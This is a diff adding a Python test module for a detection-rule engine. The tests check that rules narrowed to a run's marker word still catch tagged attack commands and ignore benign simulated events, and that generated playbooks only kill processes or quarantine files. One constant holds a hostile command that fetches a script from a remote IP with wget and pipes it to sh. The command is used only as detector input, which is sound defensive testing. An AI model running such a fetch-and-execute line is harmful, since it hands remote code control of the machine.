@@ -1,0 +1,72 @@
+"""An enforcing workbench touches what carries its run's word, and nothing else."""
+
+from __future__ import annotations
+
+from functools import cache
+from pathlib import Path
+
+from tests.simulators.device_stream import benign_events
+
+from vedette.cli._rule_folder import collect
+from vedette.codec import playbook as codec
+from vedette.core.engine import Engine
+from vedette.model.playbook import Playbooks
+from vedette.model.rule import Bundle
+from vedette_dev.enforcement import narrowed, playbooks_for
+
+ROOT = Path(__file__).parents[3]
+WORD = "qzkwvxyj"
+LINE = "sh -c 'wget -q -O - http://203.0.113.9/x | sh'"
+
+
+@cache
+def shipped() -> Bundle:
+    return collect([ROOT / "rules"]).bundle("shipped", 1, 0, 0)
+
+
+def matches(bundle: Bundle, **fields: str) -> set[str]:
+    return {rule.rule_id for rule in Engine(bundle).match("process_creation", fields)}
+
+
+def test_an_attack_that_carries_the_word_is_found_by_the_same_rules() -> None:
+    fields = {"Image": "/bin/sh", "CommandLine": f"{LINE} {WORD}", "Argv0": "sh"}
+    found = matches(shipped(), **fields)
+    assert found
+    assert matches(narrowed(shipped(), WORD), **fields) == found
+
+
+def test_a_process_below_the_runs_launcher_is_found_too() -> None:
+    fields = {"Image": "/bin/sh", "CommandLine": LINE, "Ancestors": f"/init|/{WORD}abc"}
+    assert matches(narrowed(shipped(), WORD), **fields) == matches(shipped(), **fields)
+
+
+def test_whatever_else_happens_on_this_machine_is_found_by_no_rule() -> None:
+    engine = Engine(narrowed(shipped(), WORD))
+    assert matches(narrowed(shipped(), WORD), Image="/bin/sh", CommandLine=LINE) == set()
+    for category, fields in benign_events(2_000, seed=7):
+        assert engine.match(category, fields) == ()
+
+
+def test_every_rule_can_still_be_indexed() -> None:
+    engine = Engine(narrowed(shipped(), WORD))
+    assert engine.refused == ()
+
+
+def test_files_are_taken_and_processes_ended_and_nothing_is_aimed_higher() -> None:
+    made = playbooks_for(shipped().rules)
+    steps = {(step.responder, step.aim) for one in made for step in one.steps}
+    assert steps == {("kill", "process"), ("quarantine", "file")}
+    of_files = {rule.rule_id for rule in shipped().rules if rule.category == "file_event"}
+    for one in made:
+        if one.steps[0].responder == "kill":
+            assert not of_files & set(one.rules), "the maker of a file may be the player"
+    named = [rule_id for one in made for rule_id in one.rules]
+    assert len(named) == len(set(named))
+    assert set(named) == {rule.rule_id for rule in shipped().rules if rule.is_reported}
+
+
+def test_a_device_reads_these_playbooks() -> None:
+    made = playbooks_for(shipped().rules)
+    promoted = tuple(one.digest for one in made)
+    data = codec.encode(Playbooks("workbench", 1, 0, 1, made, (), promoted, ""))
+    assert codec.decode(data).playbooks == made
